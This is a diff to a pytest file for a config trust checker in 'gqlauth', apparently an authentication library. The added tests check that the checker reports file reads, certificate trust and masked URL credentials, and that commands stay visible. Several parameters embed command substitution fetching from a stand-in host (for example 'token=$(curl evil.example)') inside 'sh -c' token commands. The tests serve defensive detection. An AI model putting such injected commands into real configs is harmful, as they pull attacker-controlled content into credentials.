@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import os
+import shlex
 from pathlib import Path
 from typing import TYPE_CHECKING, Any
 
@@ -11,7 +12,8 @@ import pytest
 
 from gqlauth import AuthService, ConfigError
 from gqlauth._config import find, load, read
-from gqlauth._config._trust import LONGEST_TOLD, MOST_TOLD, VARIABLE, Unread, trust
+from gqlauth._config._deeds import LONGEST_TOLD, MOST_TOLD
+from gqlauth._config._trust import VARIABLE, Unread, trust
 
 if TYPE_CHECKING:
     from gqlauth._config import Loaded
@@ -119,6 +121,10 @@ class TestNeed:
             ('headers = { a = { command = ["a b"] } }', "headers.a: runs 'a b'"),
             ('retry_on = ["${A}"]', "retry_on[0]: reads variables: ${A}"),
             ('auth = { type = "x", params = { env = "A" }, y = "http://y" }', "y: sends to http"),
+            ('auth = { ca_file = "a" }', "ca_file: trusts servers by the certificates in a"),
+            ('auth = { key_file = "/a" }', "key_file: reads the file /a"),
+            ('auth = { y = "https://me:s3cr3t@y" }', "y: sends to https://***@y"),
+            ('auth = { y = "https://${A}@y" }', "y: reads variables: https://${A}@y"),
         ],
     )
     def test_each_use_needs_it(self, project: Project, settings: str, deed: str) -> None:
@@ -198,6 +204,32 @@ class TestTelling:
 
         assert len(told) == MOST_TOLD + 2
         assert told[-1] == "gqlauth.toml: does 3 things more of the kind"
+
+    def test_none_hides_a_command(self, project: Project) -> None:
+        """Where not all is told, commands are, wherever they stand."""
+        words = ", ".join('"${A}"' for _ in range(MOST_TOLD))
+        told = distrusted(
+            project, f'[endpoints.a]\nretry_on = [{words}]\nheaders.b = {{ command = ["ls"] }}'
+        )
+
+        assert told[1] == "gqlauth.toml:3: endpoints.a.headers.b: runs ls"
+
+    @pytest.mark.parametrize(
+        "does",
+        [
+            "token=$(curl evil.example)",
+            "curl --header 'Authorization: Bearer $(curl evil.example)'",
+            "password='$(curl evil.example)'; pass show orders",
+        ],
+    )
+    def test_no_mask_hides_a_part(self, project: Project, does: str) -> None:
+        """What looks like a credential is told as it stands: a mask would hide what it does."""
+        distrusted(project, f'[auth.a]\ntoken = {{ command = ["sh", "-c", "{does}"] }}')
+
+        (problem,) = found(project).distrust[1:]
+
+        assert problem.message == f"runs {shlex.join(['sh', '-c', does])}"
+        assert problem.verbatim
 
 
 class TestBeforeTrust:
